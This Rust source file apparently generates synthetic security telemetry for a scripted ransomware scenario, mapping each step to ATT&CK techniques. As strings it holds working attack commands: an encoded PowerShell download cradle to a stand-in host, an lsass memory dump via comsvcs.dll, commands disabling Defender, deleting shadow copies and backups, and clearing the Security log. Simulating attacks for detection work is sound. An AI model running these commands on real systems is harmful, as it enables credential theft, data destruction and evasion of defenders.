//! A document, a dump of passwords, a file server that is encrypted.

use super::{ATTACKER, Stage, Step, Story};
use crate::{
    moment::{Moment, millis, minutes, seconds},
    network::{Flow, SharedFile, SmbAction, Tunnel},
    windows::{Account, Process, Start, data, process::hashes},
    world::Department,
};

pub(super) static STORY: Story = Story {
    name: "ransomware",
    title: "Ransomware from a document",
    summary: "Someone in sales opens a document that came by mail. Its macro fetches a loader; the attacker looks around, \
              reads the passwords of an administrator from memory, moves to the file server, removes what would help to \
              restore it and encrypts the shares.",
    begins_at: 14 * 60 + 5,
    steps: &[
        Step {
            name: "macro",
            after: 0,
            technique: "T1059.001",
            what: "A document starts an encoded PowerShell that fetches a script",
            play: macro_runs,
        },
        Step {
            name: "look around",
            after: 6,
            technique: "T1087.002",
            what: "whoami, net group, nltest: who am I, who administers this domain, where are its controllers",
            play: look_around,
        },
        Step {
            name: "passwords",
            after: 19,
            technique: "T1003.001",
            what: "The memory of lsass is dumped by rundll32 and comsvcs.dll",
            play: dump_passwords,
        },
        Step {
            name: "to the file server",
            after: 34,
            technique: "T1569.002",
            what: "A service of PsExec on FS01 under the administrator's account",
            play: move_to_server,
        },
        Step {
            name: "blind the scanner",
            after: 41,
            technique: "T1562.001",
            what: "Defender's real-time protection is switched off",
            play: blind_scanner,
        },
        Step {
            name: "no way back",
            after: 44,
            technique: "T1490",
            what: "Shadow copies and the backup catalogue are deleted, recovery at boot is switched off",
            play: prevent_recovery,
        },
        Step {
            name: "encrypt",
            after: 47,
            technique: "T1486",
            what: "Files of the shares are rewritten and renamed; notes are left",
            play: encrypt,
        },
        Step {
            name: "cover up",
            after: 58,
            technique: "T1070.001",
            what: "The Security log of FS01 is cleared",
            play: clear_log,
        },
    ],
};

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const LOADER: &str = "cdn-telemetry-sync.example";

fn macro_runs(stage: &mut Stage<'_>, at: Moment) {
    let victim = stage.victim(Department::Sales, 1);
    let session = stage.session(victim);
    let outlook = crate::office::open_program(&session, "outlook");
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let login = session.account.name.clone();
    let document = format!(
        "C:\\Users\\{login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\4Q8ZK1TB\\Invoice_77120.docm"
    );
    stage.scene.sysmon_file(at, &outlook, &document);
    let command = format!("\"{word}\" /n \"{document}\" /o \"\"");
    let word = stage.scene.start(at + seconds(2), &outlook, &session.account, Start::user(word, &command));
    let script =
        "IEX (New-Object Net.WebClient).DownloadString('https://cdn-telemetry-sync.example/a/load.ps1')";
    let command = format!("\"{POWERSHELL}\" -NoP -NonI -W Hidden -Enc {}", encoded(script));
    let shell =
        stage.scene.start(at + seconds(9), &word, &session.account, Start::user(POWERSHELL, &command));
    stage.scene.script_block(at + seconds(10), session.host, script, "");
    let address = crate::world::address_of(LOADER);
    stage.scene.sysmon_dns(at + seconds(10), &shell, LOADER, &address);
    let tunnel = Tunnel {
        at: at + seconds(10),
        client: session.host,
        user: &login,
        name: LOADER,
        sent: 1900,
        received: 412_000,
        lasts: seconds(3),
    };
    stage.scene.visit(tunnel);
    let port = stage.scene.port();
    stage.scene.sysmon_connection(
        at + seconds(11),
        &shell,
        port,
        ("10.30.1.15", "proxy01.brackwater.example", 3128),
    );
    stage.scene.sysmon_file(
        at + seconds(14),
        &shell,
        &format!("C:\\Users\\{login}\\AppData\\Local\\Temp\\upd8.dll"),
    );
    stage.remember("shell", shell);
}

/// PowerShell takes an encoded command as UTF-16 in Base64.
pub(super) fn encoded(script: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let group =
            chunk.iter().fold(0u32, |group, byte| group << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..4 {
            let is_padding = digit > chunk.len();
            let index = (group >> (18 - 6 * digit)) as usize & 63;
            text.push(if is_padding { '=' } else { char::from(ALPHABET[index]) });
        }
    }
    text
}

fn look_around(stage: &mut Stage<'_>, at: Moment) {
    let shell = stage.process("shell");
    for (index, (file, command)) in [
        ("whoami.exe", "whoami /all"),
        ("net.exe", "net group \"Domain Admins\" /domain"),
        ("nltest.exe", "nltest /dclist:ad.brackwater.example"),
        ("systeminfo.exe", "systeminfo"),
        ("net.exe", "net view /all"),
    ]
    .into_iter()
    .enumerate()
    {
        let image = format!("C:\\Windows\\System32\\{file}");
        let command = format!("\"{image}\" {}", command.split_once(' ').map_or("", |(_, rest)| rest));
        stage.child(at + seconds(7 * index as i64), &shell, Start::user(&image, command.trim()), 400);
    }
}

fn dump_passwords(stage: &mut Stage<'_>, at: Moment) {
    let shell = stage.process("shell");
    let lsass = stage.scene.resident(shell.host, "lsass");
    let image = "C:\\Windows\\System32\\rundll32.exe";
    let command = format!(
        "\"{image}\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\lsass.dmp full",
        lsass.pid
    );
    let account = Account::system();
    let dumper = stage.scene.run(at, &shell, &account, Start::system(image, &command), millis(2600));
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+1c3b9|C:\\Windows\\system32\\rundll32.exe+3b6e";
    stage.scene.sysmon_access(at + millis(300), &dumper, &lsass, "0x1fffff", trace);
    stage.scene.sysmon_file(at + millis(420), &dumper, "C:\\Windows\\Temp\\lsass.dmp");
}

fn move_to_server(stage: &mut Stage<'_>, at: Moment) {
    let from = stage.process("shell").host;
    let (machine, server) = (stage.scene.host(from), stage.host("FS01"));
    let admin = stage.victim(Department::Administration, 0);
    let person = stage.scene.world.people[admin].clone();
    let account = Account { terminal: 0, ..Account::admin(&person, stage.scene.new_logon_id()) };
    let to = stage.scene.host(server);
    let (flow, uid) = stage.flow(at, &machine.address, (&to.address, 445), "smb,ntlm,dce_rpc", 402_000, 9100);
    let controller = stage.host("DC01");
    stage.scene.ntlm_check(controller, at + millis(90), &account.name, &machine.name, "0x0");
    stage.scene.ntlm_logon(server, at + millis(120), &account, &machine.name, &machine.address);
    stage.scene.admin_rights(server, at + millis(121), &account);
    stage.scene.share_access(
        server,
        at + millis(160),
        &account,
        &machine.address,
        ("ADMIN$", "C:\\Windows"),
        &["PSEXESVC.exe".to_owned()],
    );
    stage.scene.zeek_smb_file(
        at + millis(200),
        &flow,
        &uid,
        SharedFile { share: "ADMIN$", name: "PSEXESVC.exe", bytes: 383_872 },
        SmbAction::Write,
    );
    stage.scene.share_access(
        server,
        at + millis(380),
        &account,
        &machine.address,
        ("IPC$", ""),
        &["svcctl".to_owned()],
    );
    let service = data! {
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
        "StartType": "demand start", "AccountName": "LocalSystem",
    };
    stage.scene.service_event(server, at + millis(420), 7045, service);
    let installed = data! {
        "SubjectUserSid": &account.sid, "SubjectUserName": &account.name, "SubjectDomainName": &account.domain,
        "SubjectLogonId": account.logon_id_hex(), "ServiceName": "PSEXESVC",
        "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "0x10", "ServiceStartType": "3",
        "ServiceAccount": "LocalSystem",
    };
    stage.scene.security(server, at + millis(421), 4697, installed);
    let services = stage.scene.resident(server, "services");
    let image = "C:\\Windows\\PSEXESVC.exe";
    let psexec =
        stage.scene.start(at + millis(600), &services, &Account::system(), Start::system(image, image));
    let pipe = data! {
        "EventType": "CreatePipe", "ProcessGuid": &psexec.guid, "ProcessId": psexec.pid.to_string(),
        "PipeName": "\\PSEXESVC", "Image": image, "User": psexec.account.full_name(),
    };
    stage.scene.sysmon(server, at + millis(640), 17, pipe);
    let cmd =
        stage.scene.start(at + seconds(1), &psexec, &Account::system(), Start::system(CMD, "\"cmd.exe\""));
    stage.remember("server shell", cmd);
    stage.cast.accounts.insert("admin", account);
}

fn blind_scanner(stage: &mut Stage<'_>, at: Moment) {
    let cmd = stage.process("server shell");
    let script = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true";
    let command = format!("powershell.exe -ExecutionPolicy Bypass -Command \"{script}\"");
    stage.child(at, &cmd, Start::system(POWERSHELL, &command), 2100);
    stage.scene.script_block(at + seconds(1), cmd.host, script, "");
    let defender = stage.scene.resident(cmd.host, "defender");
    let key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring";
    stage.scene.sysmon_registry(at + millis(1400), &defender, key, "DWORD (0x00000001)");
}

fn prevent_recovery(stage: &mut Stage<'_>, at: Moment) {
    let cmd = stage.process("server shell");
    for (index, (file, arguments)) in [
        ("vssadmin.exe", "delete shadows /all /quiet"),
        ("wbem\\WMIC.exe", "shadowcopy delete"),
        ("wbadmin.exe", "delete catalog -quiet"),
        ("bcdedit.exe", "/set {default} recoveryenabled No"),
        ("bcdedit.exe", "/set {default} bootstatuspolicy ignoreallfailures"),
    ]
    .into_iter()
    .enumerate()
    {
        let image = format!("C:\\Windows\\System32\\{file}");
        let name = file.rsplit('\\').next().unwrap_or(file).trim_end_matches(".exe").to_lowercase();
        stage.child(
            at + seconds(5 * index as i64),
            &cmd,
            Start::system(&image, &format!("{name} {arguments}")),
            900,
        );
    }
}

fn encrypt(stage: &mut Stage<'_>, at: Moment) {
    let cmd = stage.process("server shell");
    let image = "C:\\Windows\\Temp\\bwlock.exe";
    stage.scene.sysmon_file(at + seconds(-20), &cmd, image);
    let locker = stage.child(at, &cmd, Start::system(image, "bwlock.exe -p D:\\Shares -n 8"), 520_000);
    let files = ["Offer", "Contract", "Drawing", "Invoice", "Payroll", "Plan", "Report"];
    for number in 0..140i64 {
        let at = at + seconds(2) + millis(1900 * number);
        let file = format!("{}_{}.xlsx", files[number as usize % files.len()], 1000 + number);
        stage.scene.sysmon_file(at, &locker, &format!("D:\\Shares\\Projects\\2026\\{file}.bwlock"));
        if number % 10 == 0 {
            stage.scene.sysmon_file(
                at + millis(5),
                &locker,
                &format!("D:\\Shares\\Projects\\{}\\HOW_TO_RESTORE_FILES.txt", 2010 + number / 10),
            );
        }
        if number % 4 == 0 {
            deleted(stage, at + millis(9), &locker, &format!("D:\\Shares\\Projects\\2026\\{file}"));
        }
    }
    encrypt_over_network(stage, at + minutes(1));
}

/// The same program works from the workstation on a share, which the sensor sees.
fn encrypt_over_network(stage: &mut Stage<'_>, at: Moment) {
    let from = stage.process("shell").host;
    let (from, to) = (stage.scene.host(from).address, stage.address("FS01"));
    let port = stage.scene.port();
    let flow = Flow::tcp(at, (&from, port), (&to, 445), "smb,ntlm")
        .carrying(61_000_000, 58_000_000)
        .lasting(minutes(5));
    let uid = stage.scene.connect(&flow);
    for number in 0..90i64 {
        let at = at + seconds(3 * number);
        let name = format!("2026\\Customer_{number:03}.docx");
        stage.scene.zeek_smb_file(
            at,
            &flow,
            &uid,
            SharedFile { share: "Common", name: &name, bytes: 48_211 },
            SmbAction::Write,
        );
        let renamed = format!("{name}.bwlock");
        stage.scene.zeek_smb_file(
            at + millis(40),
            &flow,
            &uid,
            SharedFile { share: "Common", name: &renamed, bytes: 48_500 },
            SmbAction::Rename(&name),
        );
    }
}

fn deleted(stage: &mut Stage<'_>, at: Moment, process: &Process, file: &str) {
    let data = data! {
        "ProcessGuid": &process.guid, "ProcessId": process.pid.to_string(), "User": process.account.full_name(),
        "Image": &process.image, "TargetFilename": file, "Hashes": hashes(file), "IsExecutable": "false",
    };
    stage.scene.sysmon(process.host, at, 26, data);
}

fn clear_log(stage: &mut Stage<'_>, at: Moment) {
    let cmd = stage.process("server shell");
    let command = "wevtutil cl Security";
    stage.child(at, &cmd, Start::system("C:\\Windows\\System32\\wevtutil.exe", command), 300);
    stage.scene.log_cleared(cmd.host, at + millis(180), &Account::system());
    let beacon = stage.process("shell").host;
    let from = stage.scene.host(beacon).address;
    stage.flow(at + seconds(20), &from, (ATTACKER, 443), "ssl", 8100, 2200);
}
